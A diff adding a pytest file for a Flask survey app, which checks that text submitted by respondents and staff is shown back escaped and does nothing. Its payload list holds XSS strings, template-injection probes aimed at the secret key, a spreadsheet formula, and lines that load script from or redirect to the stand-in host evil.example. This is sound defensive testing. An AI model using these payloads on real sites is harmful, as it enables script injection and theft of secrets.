@@ -1,0 +1,158 @@
+"""A2: scripts in every field that a respondent or the staff can write, read back on every page that shows it."""
+
+from __future__ import annotations
+
+import pytest
+from flask import Flask
+from sqlalchemy import update
+
+from lws_assess.records.comments import SealedComment
+from lws_assess.records.groups import Group
+from lws_assess.records.instruments import shipped
+from lws_assess.records.partnerships import Partnership
+from lws_assess.records.rounds import Round
+from lws_assess.web.commands import do_everything_due
+from tests.builders import INSTRUMENT, World
+from tests.client import Client, Element, Page, first_area, look_at, whole_journey
+from tests.staff import signed_in
+
+EDITION = shipped()[INSTRUMENT]
+FIRST = EDITION.areas[0]
+ONE = FIRST.statements[0].key
+
+CORPUS = [
+    "<script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</title></style></script><script src=//evil.example></script>",
+    "\"><img src=x onerror=alert(1)>",
+    "' onmouseover='alert(1)",
+    "\" autofocus onfocus=alert(1) x=\"",
+    "<svg/onload=alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<form action=//evil.example><button>",
+    "<base href=//evil.example>",
+    "<meta http-equiv=refresh content=0;url=//evil.example>",
+    "javascript:alert(1)",
+    "{{ 7*7 }}{% raw %}${7*7}#{7*7}",
+    "{{ config.SECRET_KEY }} {{ ''.__class__.__mro__ }}",
+    "<!--",
+    "]]><![CDATA[",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "\u2028alert(1)\u2029",
+    "\u202eexe.txt",
+    "<ſcript>alert(1)</ſcript>",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "is-3\x02bad\x03",  # the marks that drawn questions are cut at
+    "=HYPERLINK(\"//evil.example\")",
+]  # fmt: skip
+AS_KEPT = [text.replace("\x02", "").replace("\x03", "").strip() for text in CORPUS]
+
+
+def planted(page: Page) -> list[Element]:
+    """Whatever on a page a script of somebody else's would need; the rules of every page find the rest."""
+    tags = page.root.find_all("script", "iframe", "base", "math", "object", "embed", "img")
+    return [e for e in tags if e.tag != "script" or "evil" in e["src"] or "alert" in e.content]
+
+
+def check(page: Page) -> None:
+    assert planted(page) == []
+    assert "evil.example" not in " ".join(e["action"] + e["href"] for e in page.root.walk())
+    assert " 49" not in page.text.replace("7*7", "")
+    assert page.root.find_all("meta") == [m for m in page.root.find_all("meta") if not m["http-equiv"]]
+
+
+@pytest.fixture
+def client(app: Flask, world: World) -> Client:
+    return Client(app)
+
+
+@pytest.mark.parametrize(("text", "kept"), zip(CORPUS, AS_KEPT, strict=True), ids=range(len(CORPUS)))
+def test_what_a_respondent_writes_comes_back_as_they_wrote_it_and_does_nothing(
+    app: Flask, world: World, client: Client, text: str, kept: str
+) -> None:
+    area = first_area(client, world.code("teachers"))
+    client.send(area, **{ONE: "3"}, comment=text)
+    here = area.path.partition("/areas/")[0]
+    client.send(client.get(f"{here}/priorities"), keep=text, one_change=text)
+    pages = {
+        name: client.get(f"{here}/{name}") for name in (f"areas/{FIRST.code}", "priorities", "check", "leave")
+    }
+    assert pages[f"areas/{FIRST.code}"].typed() == [kept]
+    assert pages["priorities"].typed() == [kept, kept]
+    assert pages["check"].text.count(" ".join(kept.split())) == 2
+    shown = [*pages.values()]
+    shown.append(client.send(area, 400, comment=text + "x" * 700))  # the page with its faults
+    shown.append(client.post(area.path, {**area.form(), "comment": text, "csrf_token": ""}, 400))
+    shown.append(client.post(area.path, {**area.form(), "comment": "other"}, 400))  # another tab
+    shown.append(client.send(client.get(f"{here}/check")))
+    shown.append(client.send(area, 409, comment=text))
+    lost = Client(app)
+    shown.append(lost.post(area.path, {"comment": text, text: text}, 404))
+    assert shown[-2].typed() == [text]
+    assert text in shown[-1].typed()
+    for page in shown:
+        check(page)
+
+
+@pytest.mark.parametrize("text", CORPUS, ids=range(len(CORPUS)))
+def test_what_is_sent_in_place_of_a_choice_comes_back_harmless_or_not_at_all(
+    app: Flask, world: World, client: Client, text: str
+) -> None:
+    area = first_area(client, world.code("teachers"))
+    here = area.path.partition("/areas/")[0]
+    check(client.send(area, 400, **{ONE: text}))
+    check(client.post(area.path, {**area.form(), text: text}, 400))
+    check(client.send(client.get(f"{here}/priorities"), 400, top_areas=[text]))
+    check(client.post(f"{here}/about", {**area.form(), "role": text, "length": text}, 400))
+    about = client.get(f"{here}/about")
+    assert about.chosen() == {"role": "manager"}
+    strange = client.raw("POST", area.path, {**area.form(), "attempt": text, "go": text, "comment": "x"})
+    assert strange.status_code in (303, 400)
+    entrance = client.get(f"/join/{world.code(None)}")
+    check(client.send(entrance, 400, agree=text, group=text))
+    check(
+        client.post(entrance.path, {"agree": text, "group": text, text: text}, 400)
+    )  # no token: offered again
+    check(client.send(client.get("/"), 400, code=text))
+    check(client.get("/join/" + text.encode().hex() + text.replace("/", ""), 404))
+
+
+@pytest.mark.parametrize("text", CORPUS, ids=range(len(CORPUS)))
+def test_names_of_partnerships_groups_and_rounds_do_nothing_either(app: Flask, text: str) -> None:
+    world = World(app.config["DATABASE"])
+    name = text.replace("\x02", "").replace("\x03", "")
+    with world.database.writing() as session:
+        session.execute(update(Partnership).values(name=name, contact=name, place=name, plan=name))
+        session.execute(
+            update(Group).where(Group.catch_all.is_(False)).values(name=name, this_is_you_if=name, lead=name)
+        )
+        session.execute(update(Round).values(title=name, contact=name, support=name))
+    client = Client(app)
+    pages = [client.get(f"/join/{world.code(None)}"), first_area(client, world.code("teachers"))]
+    pages.append(client.get(f"/i/{world.personal_link().code}"))
+    for _ in range(6):
+        pages.append(whole_journey(Client(app), world.code("inspectors"), comment=text))
+        world.answer("teachers", {f"areas/{FIRST.code}": {ONE: "3", "comment": "Kept."}})
+    staff = signed_in(app, world.partnership, "administrator")
+    for path in ("", "rounds/", "rounds/first/", "rounds/first/close", "people/"):
+        pages.append(look_at(path, staff.get(f"/p/{world.partnership}/{path}")))
+    with world.database.writing() as session:
+        session.execute(
+            update(Round).values(state="closed", closed_at=world.now.replace(year=world.now.year - 1))
+        )
+    with app.app_context():
+        do_everything_due(world.database)
+    for path in (
+        "rounds/first/results",
+        "rounds/first/results?audience=young-people",
+        "rounds/first/",
+        "rounds/",
+    ):
+        pages.append(look_at(path, staff.get(f"/p/{world.partnership}/{path}")))
+    assert any(" ".join(name.split()) in page.text for page in pages)
+    with world.database.reading() as session:
+        assert session.query(SealedComment).count() == 6 * 8 + 6
+    for page in pages:
+        check(page)
